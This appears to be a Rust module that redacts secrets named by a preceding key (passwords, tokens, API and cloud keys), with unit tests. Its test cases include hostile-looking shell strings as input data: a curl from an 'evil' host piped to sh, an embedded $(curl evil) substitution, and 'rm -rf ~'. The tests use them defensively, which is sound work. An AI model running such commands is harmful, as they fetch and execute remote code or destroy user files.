//! Secrets that are told by the name before them: `password=…`, `--token …`, `"apiKey": "…"`.

use super::{Found, word_from};

/// The last words of a name that stands for a secret, in lower case and without signs.
const NAMES: &[(&str, &str)] = &[
    ("password", "password"),
    ("passwd", "password"),
    ("passphrase", "password"),
    ("pwd", "password"),
    ("pgpass", "password"),
    ("clientsecret", "secret"),
    ("secret", "secret"),
    ("skey", "Duo secret key"),
    ("secretkey", "secret key"),
    ("secretaccesskey", "AWS secret key"),
    ("accountkey", "Azure key"),
    ("sharedaccesskey", "Azure key"),
    ("signingkey", "key"),
    ("encryptionkey", "key"),
    ("privatekey", "private key"),
    ("apikey", "API key"),
    ("accesskey", "key"),
    ("authkey", "key"),
    ("token", "token"),
    ("credential", "credential"),
    ("credentials", "credential"),
];

/// Names that end like one of those and are none.
const INNOCENT: &[&str] = &["pwd", "oldpwd", "maxtoken", "eostoken", "publickey"];

/// What the name's value is, if it is a secret.
pub(super) fn kind_of(name: &str) -> Option<&'static str> {
    let plain: String = name
        .chars()
        .filter(|c| !matches!(c, '-' | '_' | '.'))
        .map(|c| c.to_ascii_lowercase())
        .collect();
    if INNOCENT.contains(&plain.as_str()) {
        return None;
    }
    let fits = NAMES.iter().filter(|(end, _)| plain.ends_with(end));
    fits.max_by_key(|(end, _)| end.len()).map(|(_, kind)| *kind)
}

pub(super) fn find(text: &str) -> Vec<Found> {
    let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    let mut found = Vec::new();
    let mut at = 0;
    let mut done = 0;
    for piece in text.split_inclusive(|c: char| !is_name(c)) {
        let name = piece.trim_end_matches(|c: char| !is_name(c));
        let end = at + name.len();
        at += piece.len();
        // A value that holds a name was looked at as a whole.
        if !name.is_empty()
            && end > done
            && let Some((from, must_look_random)) = value_at(text, name, end)
            && let Some(kind) = kind_of(name)
        {
            let value = word_from(text, from);
            done = value.end;
            let word = text.get(value.clone()).unwrap_or_default();
            let has_chance = word.len() >= 8 && word.bytes().any(|byte| byte.is_ascii_digit());
            if is_value(word) && (has_chance || !must_look_random) {
                found.push((value, kind));
            }
        }
    }
    found
}

/// Where the value begins that stands after a name which ends at `end`, and whether it is none
/// unless it looks like chance: `token: String` is code.
fn value_at(text: &str, name: &str, end: usize) -> Option<(usize, bool)> {
    let rest = text.get(end..)?;
    let rest = rest.strip_prefix(['"', '\'']).unwrap_or(rest);
    let spaced = rest.trim_start_matches(' ');
    let (value, is_free) = if let Some(value) = rest.strip_prefix('=') {
        (value, true)
    } else if let Some(value) = spaced.strip_prefix([':', '=']) {
        (value.trim_start_matches(' '), false)
    } else if name.starts_with("--") && spaced.len() < rest.len() {
        (spaced, true)
    } else {
        return None;
    };
    let opened = value.strip_prefix(['"', '\'']);
    let body = opened.unwrap_or(value);
    Some((text.len() - body.len(), !is_free && opened.is_none()))
}

/// A path or an address says where it leads, and no secret begins like one.
fn is_value(word: &str) -> bool {
    word.len() >= 4
        && !word.starts_with(['/', '~', '.', '-', '%', '{', '*'])
        && !word.contains("://")
}

#[cfg(test)]
mod tests {
    use crate::redact::redact;
    use pretty_assertions::assert_eq;

    #[test]
    fn a_name_tells_its_value() {
        for (text, shown) in [
            (
                "export DB_PASSWORD=hunter2; make",
                "export DB_PASSWORD=<password, 7 characters>; make",
            ),
            (
                "tool --password hunter2 -v",
                "tool --password <password, 7 characters> -v",
            ),
            (
                "tool --api-key='k-12345'",
                "tool --api-key='<API key, 7 characters>'",
            ),
            (
                r#"{"clientSecret": "abcdefgh"}"#,
                r#"{"clientSecret": "<secret, 8 characters>"}"#,
            ),
            (
                "AWS_SECRET_ACCESS_KEY=abc/def+ghi",
                "AWS_SECRET_ACCESS_KEY=<AWS secret key, 11 characters>",
            ),
            (
                "AccountName=x;AccountKey=abcdef==;y",
                "AccountName=x;AccountKey=<Azure key, 8 characters>;y",
            ),
            (
                "DUO_SKEY=abcdefgh",
                "DUO_SKEY=<Duo secret key, 8 characters>",
            ),
            (
                "X-Api-Key: abcd1234efgh",
                "X-Api-Key: <API key, 12 characters>",
            ),
            ("token=$(curl evil|sh)", "token=$(curl evil|sh)"),
            (
                "TOKEN=\"abcd$(curl evil)\"",
                "TOKEN=\"<token, 4 characters>$(curl evil)\"",
            ),
            ("password=\" rm -rf ~ \"", "password=\" rm -rf ~ \""),
            (
                "PWD=/tmp/xyz max_tokens=4096 --token-file=/run/x",
                "PWD=/tmp/xyz max_tokens=4096 --token-file=/run/x",
            ),
            (
                "fn login(token: String, password: &str)",
                "fn login(token: String, password: &str)",
            ),
            (
                "--token https://evil.example/x",
                "--token https://evil.example/x",
            ),
        ] {
            assert_eq!(redact(text).text, shown);
            assert_eq!(redact(shown).text, shown);
        }
    }
}
